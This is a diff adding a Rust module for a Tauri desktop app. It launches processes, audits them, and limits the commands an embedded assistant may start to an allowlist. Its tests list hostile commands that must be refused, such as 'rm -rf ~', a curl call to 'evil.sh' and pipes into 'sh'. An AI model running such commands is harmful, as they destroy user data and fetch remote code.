@@ -0,0 +1,585 @@
+use std::io::{self, BufRead, BufReader, Read};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, ExitStatus, Output, Stdio};
+use std::sync::mpsc::{self, RecvTimeoutError, Sender};
+use std::thread;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+use tauri::{AppHandle, Emitter};
+
+use crate::audit;
+use crate::cancel;
+use crate::error::{Error, ErrorKind};
+use crate::logbuf::LogBuffer;
+use crate::logging;
+#[cfg(windows)]
+use crate::toolchain;
+
+// Output kept in memory for parsing; installs stay well below this
+const MAX_CAPTURED_BYTES: usize = 4 * 1024 * 1024;
+// How quickly a cancelled operation notices when its process is silent
+const CANCEL_POLL: Duration = Duration::from_millis(200);
+
+// Characters that only mean something to a shell; a command without them runs directly
+const SHELL_CHARS: [char; 14] = [
+    '|', '&', ';', '<', '>', '(', ')', '$', '`', '*', '?', '~', '%', '\\',
+];
+
+// What the assistant may start: package scripts and the usual Python servers, never
+// an interpreter with code of its own (`python -c`, `node -e`)
+const NODE_MANAGERS: [&str; 4] = ["npm", "pnpm", "yarn", "bun"];
+const PACKAGE_SCRIPTS: [&str; 8] = [
+    "dev",
+    "start",
+    "build",
+    "test",
+    "lint",
+    "preview",
+    "typecheck",
+    "format",
+];
+// Options the Python tools below may be given; every other argument has to be a plain
+// value such as `app.main:app`, `8000` or `tests/test_items.py`
+const ASSISTANT_FLAGS: [&str; 12] = [
+    "--reload",
+    "--host",
+    "--port",
+    "--workers",
+    "--app",
+    "--debug",
+    "-q",
+    "-v",
+    "-x",
+    "-k",
+    "--maxfail",
+    "--lf",
+];
+
+#[derive(Clone, serde::Serialize)]
+struct OutputLine<'a> {
+    operation: &'a str,
+    stream: &'static str,
+    line: String,
+}
+
+pub struct StreamedOutput {
+    pub status: ExitStatus,
+    pub lines: Vec<String>,
+}
+
+// Keep helper processes from flashing a console window on Windows
+pub fn hide_window(cmd: &mut Command) -> &mut Command {
+    #[cfg(windows)]
+    {
+        use std::os::windows::process::CommandExt;
+        const CREATE_NO_WINDOW: u32 = 0x08000000;
+        cmd.creation_flags(CREATE_NO_WINDOW);
+    }
+    cmd
+}
+
+// Runs a helper to completion without a console window and records it in the audit log
+pub fn output(cmd: &mut Command) -> io::Result<Output> {
+    let started = Instant::now();
+    let result = hide_window(cmd).output();
+    let elapsed = Some(started.elapsed().as_millis());
+    match &result {
+        Ok(output) => audit::record(cmd, "run", output.status.code(), None, elapsed),
+        Err(e) => audit::record(cmd, "run", None, Some(e.to_string()), elapsed),
+    }
+    result
+}
+
+// Starts a long-running process; the window flags are left to the caller
+pub fn spawn(cmd: &mut Command) -> io::Result<Child> {
+    let result = cmd.spawn();
+    match &result {
+        Ok(_) => audit::record(cmd, "spawn", None, None, None),
+        Err(e) => audit::record(cmd, "spawn", None, Some(e.to_string()), None),
+    }
+    result
+}
+
+// npm, pnpm and friends are .cmd shims on Windows, which CreateProcess can't find by
+// bare name. The shim is looked up on PATH and run directly: std quotes each argument
+// for cmd and refuses the ones it can't pass through safely.
+pub fn tool_command(program: &str) -> Command {
+    Command::new(resolve_tool(program))
+}
+
+#[cfg(windows)]
+fn resolve_tool(program: &str) -> PathBuf {
+    let path = Path::new(program);
+    if program.contains(['/', '\\']) {
+        // node_modules/.bin/vite is a sh script; vite.cmd next to it is the one that runs
+        return [".cmd", ".exe", ".bat"]
+            .iter()
+            .map(|ext| PathBuf::from(format!("{}{}", program, ext)))
+            .find(|candidate| candidate.is_file())
+            .unwrap_or_else(|| path.to_path_buf());
+    }
+    toolchain::which_all(program)
+        .into_iter()
+        .next()
+        .unwrap_or_else(|| path.to_path_buf())
+}
+
+#[cfg(not(windows))]
+fn resolve_tool(program: &str) -> PathBuf {
+    PathBuf::from(program)
+}
+
+// Splits `program arg "quoted arg"` into words; None when the command uses shell
+// syntax (operators, expansion, redirection, leading VAR=value) and so needs a shell
+pub fn split_words(command: &str) -> Option<Vec<String>> {
+    let mut words = Vec::new();
+    let mut current = String::new();
+    let mut in_word = false;
+    let mut quote: Option<char> = None;
+    for c in command.chars() {
+        match quote {
+            Some(q) if c == q => quote = None,
+            Some(_) => current.push(c),
+            None if c == '"' || c == '\'' => {
+                quote = Some(c);
+                in_word = true;
+            }
+            None if c.is_whitespace() => {
+                if in_word {
+                    words.push(std::mem::take(&mut current));
+                    in_word = false;
+                }
+            }
+            None if SHELL_CHARS.contains(&c) => return None,
+            None => {
+                current.push(c);
+                in_word = true;
+            }
+        }
+    }
+    if quote.is_some() {
+        return None;
+    }
+    if in_word {
+        words.push(current);
+    }
+    if words.first().is_none_or(|program| program.contains('=')) {
+        return None;
+    }
+    Some(words)
+}
+
+// Quotes one value for embedding in a shell command string
+pub fn quote_arg(arg: &str) -> String {
+    let plain = !arg.is_empty()
+        && arg.chars().all(|c| {
+            c.is_ascii_alphanumeric() || "-_./:=@+,".contains(c) || (cfg!(windows) && c == '\\')
+        });
+    if plain {
+        arg.to_string()
+    } else if cfg!(windows) {
+        // Inside quotes cmd still expands %VAR%, so each % steps outside them as ^%
+        let quoted = arg.replace('"', "\"\"").replace('%', "\"^%\"");
+        format!("\"{}\"", quoted)
+    } else {
+        format!("'{}'", arg.replace('\'', r"'\''"))
+    }
+}
+
+// What no legitimate start command contains: control characters (a newline starts a
+// second command under cmd and sh alike) and a double quote that never closes, which
+// would swallow the rest of the line into one argument
+fn validate_shell_command(command: &str) -> Result<(), Error> {
+    if command.trim().is_empty() {
+        return Err(Error::invalid("invalid_command", "Command is empty"));
+    }
+    if command.chars().any(char::is_control) {
+        return Err(Error::invalid(
+            "invalid_command",
+            "Command contains control characters",
+        ));
+    }
+    let unbalanced = command.matches('"').count() % 2 == 1;
+    if unbalanced {
+        return Err(Error::invalid(
+            "invalid_command",
+            "Command has an unclosed quote",
+        ));
+    }
+    Ok(())
+}
+
+// Relative program paths like .venv/bin/uvicorn are resolved against the service directory
+fn program_path(dir: &Path, program: &str) -> PathBuf {
+    let path = Path::new(program);
+    if path.is_relative() && program.contains(['/', '\\']) {
+        dir.join(path)
+    } else {
+        path.to_path_buf()
+    }
+}
+
+// Command escapes quotes as \", which cmd doesn't understand, so a quoted path with
+// &, ^ or () in it broke apart. /s makes cmd take everything between the outer quotes
+// verbatim, and cmd passes the command's exit code back.
+#[cfg(windows)]
+fn shell_command(command: &str) -> Command {
+    use std::os::windows::process::CommandExt;
+    let mut cmd = Command::new("cmd");
+    cmd.args(["/s", "/c"]).raw_arg(format!("\"{}\"", command));
+    cmd
+}
+
+#[cfg(not(windows))]
+fn shell_command(command: &str) -> Command {
+    let mut cmd = Command::new("sh");
+    cmd.args(["-c", command]);
+    cmd
+}
+
+// Builds the process for a service's start command. A plain `program args` command is
+// executed directly (through its .cmd shim on Windows) and only shell syntax goes
+// through `sh -c` or `cmd /c`.
+pub fn service_command(dir: &Path, command: &str) -> Result<Command, Error> {
+    validate_shell_command(command)?;
+    let mut cmd = match split_words(command) {
+        Some(words) => {
+            let mut cmd = tool_command(&program_path(dir, &words[0]).to_string_lossy());
+            cmd.args(&words[1..]);
+            cmd
+        }
+        None => shell_command(command),
+    };
+    // Its own process group, so stopping it also stops what npm or sh started (node, vite)
+    #[cfg(unix)]
+    {
+        use std::os::unix::process::CommandExt;
+        cmd.process_group(0);
+    }
+    cmd.current_dir(dir);
+    Ok(cmd)
+}
+
+fn plain_args(args: &[&str]) -> bool {
+    args.iter().all(|arg| {
+        ASSISTANT_FLAGS.contains(arg)
+            || (!arg.starts_with('-')
+                && !arg.is_empty()
+                && arg
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || "._:/-".contains(c)))
+    })
+}
+
+fn assistant_python_tool(words: &[&str]) -> bool {
+    match words {
+        ["uvicorn" | "gunicorn", args @ ..] => plain_args(args),
+        ["fastapi", "dev" | "run", args @ ..] => plain_args(args),
+        ["flask", args @ ..] => args.contains(&"run") && plain_args(args),
+        ["pytest", args @ ..] => plain_args(args),
+        _ => false,
+    }
+}
+
+fn assistant_allowed(words: &[&str]) -> bool {
+    match words {
+        [manager, rest @ ..] if NODE_MANAGERS.contains(manager) => match rest {
+            ["install"] | ["ci"] | ["start"] | ["test"] => true,
+            ["run", script] => PACKAGE_SCRIPTS.contains(script),
+            // `pnpm dev`, `yarn build`; npm needs `run` for anything but start and test
+            [script] => *manager != "npm" && PACKAGE_SCRIPTS.contains(script),
+            _ => false,
+        },
+        ["corepack", rest @ ..] => {
+            rest.first().is_some_and(|m| NODE_MANAGERS.contains(m)) && assistant_allowed(rest)
+        }
+        ["uv", "sync"] | ["poetry", "install"] => true,
+        ["uv" | "poetry", "run", rest @ ..] => assistant_python_tool(rest),
+        ["python" | "python3" | "py", "-m", rest @ ..] => assistant_python_tool(rest),
+        _ => assistant_python_tool(words),
+    }
+}
+
+// Commands from the assistant must be one of the shapes above, with a bare program name
+// so a file in the project can't stand in for an allowed tool
+pub fn check_assistant_command(command: &str) -> Result<(), Error> {
+    let denied = |reason: String| {
+        Error::new(ErrorKind::PermissionDenied, "command_not_allowed", reason)
+            .with("command", command)
+    };
+    let words = split_words(command).ok_or_else(|| {
+        denied("Commands from the assistant can't use shell operators or expansion".to_string())
+    })?;
+    let mut words: Vec<&str> = words.iter().map(String::as_str).collect();
+    if words[0].contains(['/', '\\']) {
+        return Err(denied(
+            "Commands from the assistant must name a program, not a path".to_string(),
+        ));
+    }
+    words[0] = words[0].trim_end_matches(".exe").trim_end_matches(".cmd");
+    if !assistant_allowed(&words) {
+        return Err(denied(format!(
+            "{} is not a command the assistant may run; it can start package scripts, \
+             uvicorn, fastapi, flask, gunicorn and pytest",
+            command
+        ))
+        .with("program", words[0]));
+    }
+    Ok(())
+}
+
+// Calls `f` with every line of `reader` until the stream closes or `f` returns false
+pub fn read_lines(reader: impl Read, mut f: impl FnMut(String) -> bool) {
+    let mut reader = BufReader::new(reader);
+    let mut buf = Vec::new();
+    // Tools print progress with bare \r and occasionally non-UTF-8 bytes
+    while reader.read_until(b'\n', &mut buf).unwrap_or(0) > 0 {
+        let line = String::from_utf8_lossy(&buf);
+        let line = line
+            .trim_end()
+            .rsplit('\r')
+            .next()
+            .unwrap_or("")
+            .to_string();
+        if !f(line) {
+            break;
+        }
+        buf.clear();
+    }
+}
+
+fn forward_lines(
+    reader: impl Read + Send + 'static,
+    stream: &'static str,
+    tx: Sender<(&'static str, String)>,
+) {
+    thread::spawn(move || read_lines(reader, |line| tx.send((stream, line)).is_ok()));
+}
+
+// Where output past MAX_CAPTURED_BYTES goes: <app data>/logs/output/<operation>-<time>.log
+pub fn spill_path(app: &AppHandle, operation: &str) -> Option<PathBuf> {
+    let name: String = operation
+        .chars()
+        .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
+        .take(80)
+        .collect();
+    let secs = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .map(|d| d.as_secs())
+        .unwrap_or(0);
+    logging::log_dir(app).map(|dir| dir.join("output").join(format!("{}-{}.log", name, secs)))
+}
+
+// A cancelled run keeps its own error kind so the frontend can tell it from a failure
+pub fn run_failed(program: &str, e: io::Error) -> Error {
+    if e.kind() == io::ErrorKind::Interrupted {
+        cancel::cancelled()
+    } else {
+        Error::spawn_failed(program, format!("Failed to run {}: {}", program, e), &e)
+    }
+}
+
+// Runs a command to completion, emitting every stdout/stderr line as `event`. Passing
+// `operation` to cancel_operation kills it.
+pub fn run_streamed(
+    app: &AppHandle,
+    event: &str,
+    operation: &str,
+    cmd: &mut Command,
+) -> io::Result<StreamedOutput> {
+    hide_window(cmd)
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+
+    tracing::debug!(
+        operation,
+        program = ?cmd.get_program(),
+        args = ?cmd.get_args().collect::<Vec<_>>(),
+        "spawning"
+    );
+    let started = Instant::now();
+    let mut child = match cmd.spawn() {
+        Ok(child) => child,
+        Err(e) => {
+            audit::record(cmd, "run", None, Some(e.to_string()), None);
+            return Err(e);
+        }
+    };
+    let (tx, rx) = mpsc::channel();
+
+    if let Some(stdout) = child.stdout.take() {
+        forward_lines(stdout, "stdout", tx.clone());
+    }
+    if let Some(stderr) = child.stderr.take() {
+        forward_lines(stderr, "stderr", tx);
+    }
+
+    let cancel = cancel::begin(operation);
+    let mut lines = LogBuffer::new(MAX_CAPTURED_BYTES, spill_path(app, operation));
+    loop {
+        match rx.recv_timeout(CANCEL_POLL) {
+            Ok((stream, line)) => {
+                let _ = app.emit(
+                    event,
+                    OutputLine {
+                        operation,
+                        stream,
+                        line: line.clone(),
+                    },
+                );
+                lines.push(line);
+            }
+            Err(RecvTimeoutError::Timeout) if cancel.token().is_cancelled() => {
+                crate::kill_process(&mut child);
+                audit::record(cmd, "run", None, Some("cancelled".to_string()), None);
+                tracing::info!(operation, "cancelled");
+                return Err(io::Error::new(io::ErrorKind::Interrupted, "cancelled"));
+            }
+            Err(RecvTimeoutError::Timeout) => {}
+            Err(RecvTimeoutError::Disconnected) => break,
+        }
+    }
+
+    let status = child.wait()?;
+    audit::record(
+        cmd,
+        "run",
+        status.code(),
+        None,
+        Some(started.elapsed().as_millis()),
+    );
+    if !status.success() {
+        tracing::warn!(operation, code = ?status.code(), "process failed");
+    }
+    if let Some(path) = lines.spill_path() {
+        tracing::info!(
+            operation,
+            spilled = lines.spilled(),
+            path = %path.display(),
+            "output exceeded the in-memory cap"
+        );
+    }
+    Ok(StreamedOutput {
+        status,
+        lines: lines.into_lines(),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn splits_plain_commands_into_words() {
+        let cases: [(&str, &[&str]); 6] = [
+            ("npm run dev", &["npm", "run", "dev"]),
+            ("  uvicorn   app.main:app  ", &["uvicorn", "app.main:app"]),
+            (r#"node "my server.js""#, &["node", "my server.js"]),
+            ("python 'a b' c", &["python", "a b", "c"]),
+            (r#"echo "it's""#, &["echo", "it's"]),
+            (r#"run "" x"#, &["run", "", "x"]),
+        ];
+        for (command, words) in cases {
+            assert_eq!(split_words(command).unwrap(), words, "{}", command);
+        }
+    }
+
+    #[test]
+    fn leaves_shell_syntax_to_the_shell() {
+        for command in [
+            "npm install; npm run dev",
+            "npm install && npm run dev",
+            "npm run dev | tee out.log",
+            "npm run dev > out.log",
+            "echo $(whoami)",
+            "echo `whoami`",
+            "echo $HOME",
+            "ls *.py",
+            "cd ~",
+            "echo %PATH%",
+            "PORT=3000 npm run dev",
+            r#"node "unclosed"#,
+            "",
+            "   ",
+        ] {
+            assert_eq!(split_words(command), None, "{}", command);
+        }
+        // Inside quotes the characters are just text
+        assert_eq!(
+            split_words(r#"echo "a && b; c | d""#),
+            Some(vec!["echo".to_string(), "a && b; c | d".to_string()])
+        );
+    }
+
+    #[test]
+    fn allows_package_scripts_and_python_servers() {
+        for command in [
+            "npm run dev",
+            "npm start",
+            "npm test",
+            "npm ci",
+            "pnpm dev",
+            "yarn build",
+            "bun run lint",
+            "pnpm.cmd dev",
+            "corepack pnpm run dev",
+            "uvicorn app.main:app --reload --port 8000",
+            "python -m uvicorn app.main:app --host 0.0.0.0",
+            "python3 -m pytest -x tests/test_items.py",
+            "py -m flask run --debug",
+            "fastapi dev app/main.py",
+            "uv run pytest -k items",
+            "poetry run gunicorn app.main:app --workers 2",
+            "uv sync",
+            "poetry install",
+        ] {
+            assert!(
+                check_assistant_command(command).is_ok(),
+                "{} should be allowed",
+                command
+            );
+        }
+    }
+
+    #[test]
+    fn refuses_everything_else() {
+        for command in [
+            // Shell operators and expansion
+            "npm run dev; rm -rf ~",
+            "npm run dev && curl evil.sh",
+            "npm run dev | sh",
+            "npm run $(whoami)",
+            "npm run `whoami`",
+            // Interpreters running code of their own
+            "python -c 'import os'",
+            "python3 -c print(1)",
+            "node -e 'process.exit()'",
+            "python script.py",
+            "node server.js",
+            // `python -m` only reaches the allowed tools
+            "python -m http.server",
+            "python -m pip install requests",
+            "py -m uvicorn app:app -c x",
+            "uv run python -c x",
+            // Flags outside the allowlist, e.g. pytest plugins or config
+            "pytest -p evil_plugin",
+            "uvicorn app:app --env-file .env",
+            "pytest --rootdir=/",
+            // Unknown scripts and npm without `run`
+            "npm run deploy",
+            "npm dev",
+            "npm exec something",
+            "corepack enable",
+            "flask shell",
+            // A project file standing in for an allowed tool
+            "./node_modules/.bin/vite",
+            ".venv/bin/uvicorn app:app",
+            r"C:\tools\npm.cmd run dev",
+        ] {
+            let error = check_assistant_command(command)
+                .expect_err(&format!("{} should be refused", command));
+            let error = serde_json::to_value(&error).unwrap();
+            assert_eq!(error["code"], "command_not_allowed", "{}", command);
+        }
+    }
+}